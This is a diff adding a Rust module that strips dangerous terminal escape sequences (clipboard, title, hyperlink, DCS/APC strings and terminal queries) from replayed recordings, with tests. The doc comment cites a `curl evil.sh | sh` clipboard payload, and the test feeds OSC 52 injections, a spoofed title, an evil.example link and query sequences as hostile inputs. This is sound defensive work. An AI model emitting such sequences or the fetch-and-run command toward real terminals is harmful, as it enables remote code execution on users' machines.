@@ -1,0 +1,184 @@
+//! What of a recording may reach the person's own terminal when it is replayed.
+//!
+//! A run's output is anyone's text: a remote banner, a file a step printed. Played as it is,
+//! it could set the person's clipboard (OSC 52: tmux then pastes `curl evil.sh | sh`),
+//! their window title, hyperlinks whose text hides their target (OSC 8), or ask the terminal
+//! questions whose answers arrive as typed input. So replay passes on only what draws the
+//! screen: text, controls, and the CSI and short ESC sequences of cursor, colour, erase,
+//! scroll and mode; OSC, DCS, SOS, PM and APC strings are dropped (a link shows as its
+//! text), and so are the CSI sequences that ask the terminal something or move its window.
+//! Piped, a recording is its plain text. Both read the stream with the decoder's own
+//! transitions (term/escapes.rs), so they agree with the transcript on every sequence.
+
+use crate::term::escapes::{Class, Kind, Scanner};
+use crate::term::transcript::render_line;
+
+/// The longest CSI sequence passed on; a longer one is no drawing (and is dropped).
+const LONGEST_CSI: usize = 256;
+
+/// The drawing of a recording's output, safe for the person's terminal.
+#[derive(Debug, Default)]
+pub struct Safe {
+    scanner: Scanner,
+    /// The sequence being read, while its kind may pass.
+    pending: String,
+    /// The sequence being read is one that never passes.
+    dropping: bool,
+    /// The last sequence was dropped: a string terminator (`ESC \`) right after it ends it
+    /// and goes with it.
+    after_dropped: bool,
+}
+
+impl Safe {
+    pub fn filter(&mut self, text: &str) -> String {
+        let mut out = String::with_capacity(text.len());
+        for c in text.chars() {
+            match self.scanner.next(c) {
+                Class::Printed => {
+                    self.after_dropped = false;
+                    out.push(c);
+                }
+                Class::Control if self.pending.is_empty() => {
+                    self.after_dropped = false;
+                    out.push(c);
+                }
+                // Executed inside a sequence the terminal reads on: it stays in it.
+                Class::Control => self.pending.push(c),
+                Class::Sequence { starts: true, .. } => {
+                    // An unfinished sequence is ended by this one in the terminal too.
+                    self.end_sequence(&mut out);
+                    self.pending.push(c);
+                }
+                Class::Sequence { kind, .. } => match kind {
+                    Kind::Csi | Kind::Esc if !self.dropping => self.pending.push(c),
+                    _ => {
+                        self.pending.clear();
+                        self.dropping = true;
+                    }
+                },
+            }
+            if self.scanner.in_text() {
+                self.end_sequence(&mut out);
+            }
+        }
+        out
+    }
+
+    /// The sequence read so far is over: out it goes, if it may.
+    fn end_sequence(&mut self, out: &mut String) {
+        if std::mem::take(&mut self.dropping) {
+            self.after_dropped = true;
+            return;
+        }
+        let sequence = std::mem::take(&mut self.pending);
+        // An ESC that another ends at once does nothing; a terminator ends what was dropped.
+        if sequence.len() < 2 || (sequence == "\x1b\\" && self.after_dropped) {
+            return;
+        }
+        self.after_dropped = false;
+        if draws(&sequence) {
+            out.push_str(&sequence);
+        }
+    }
+}
+
+/// Whether a CSI or ESC sequence only draws: not a question to the terminal (device status
+/// and attributes, `$p` mode requests: the answers would arrive as typed input) nor a move,
+/// resize or title report of its window (XTWINOPS), nor overlong.
+fn draws(sequence: &str) -> bool {
+    let Some(csi) = sequence.strip_prefix("\x1b[") else {
+        return true;
+    };
+    if sequence.len() > LONGEST_CSI {
+        return false;
+    }
+    let asks = match csi.chars().last() {
+        Some('n' | 'c' | 't') => true,
+        Some('p') => csi.contains('$'),
+        _ => false,
+    };
+    !asks
+}
+
+/// A recording's plain text, as `asciinema cat` would print it without its sequences:
+/// each line as it was left (carriage returns and backspaces applied, tabs expanded).
+#[derive(Debug, Default)]
+pub struct Plain {
+    scanner: Scanner,
+    line: String,
+}
+
+impl Plain {
+    /// The lines this text completed.
+    pub fn push(&mut self, text: &str) -> String {
+        let mut out = String::new();
+        for c in text.chars() {
+            match (self.scanner.next(c), c) {
+                (Class::Printed, _) | (Class::Control, '\r' | '\x08' | '\t') => self.line.push(c),
+                (Class::Control, '\n') => {
+                    out.push_str(render_line(&self.line).trim_end());
+                    out.push('\n');
+                    self.line.clear();
+                }
+                _ => {}
+            }
+        }
+        out
+    }
+
+    /// The last line, if it had text: the recording ended.
+    pub fn finish(&mut self) -> String {
+        let last = render_line(&std::mem::take(&mut self.line));
+        match last.trim_end() {
+            "" => String::new(),
+            text => format!("{text}\n"),
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn safe_in_pieces(text: &str, cut: usize) -> String {
+        let mut safe = Safe::default();
+        let mut out = String::new();
+        let mut from = 0;
+        while from < text.len() {
+            let mut to = (from + cut).min(text.len());
+            while !text.is_char_boundary(to) {
+                to += 1;
+            }
+            out.push_str(&safe.filter(&text[from..to]));
+            from = to;
+        }
+        out
+    }
+
+    #[test]
+    fn only_what_draws_passes_however_the_stream_is_cut() {
+        let text = concat!(
+            "\x1b[1;31mred\x1b[0m ",
+            "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
+            "\x1b]0;pwned\x1b\\",
+            "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\ ",
+            "\x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\",
+            "\x1b_Gf=100;AAAA\x1b\\",
+            "\x1b[6n\x1b[c\x1b[21t\x1b[?2004$p",
+            "\x1b[2J\x1b[H\x1b(Bend\r\n",
+        );
+        let want = "\x1b[1;31mred\x1b[0m click \x1b[2J\x1b[H\x1b(Bend\r\n";
+        for cut in 1..=text.len() {
+            assert_eq!(safe_in_pieces(text, cut), want, "cut every {cut} bytes");
+        }
+    }
+
+    #[test]
+    fn plain_text_is_each_line_as_it_was_left() {
+        let mut plain = Plain::default();
+        let mut out =
+            plain.push("\x1b[32mok\x1b[0m 1\r\nprogress 10%\rprogress 100%\r\n\x1b]0;t\x07ab\x08c");
+        out.push_str(&plain.finish());
+        assert_eq!(out, "ok 1\nprogress 100%\nac\n");
+    }
+}
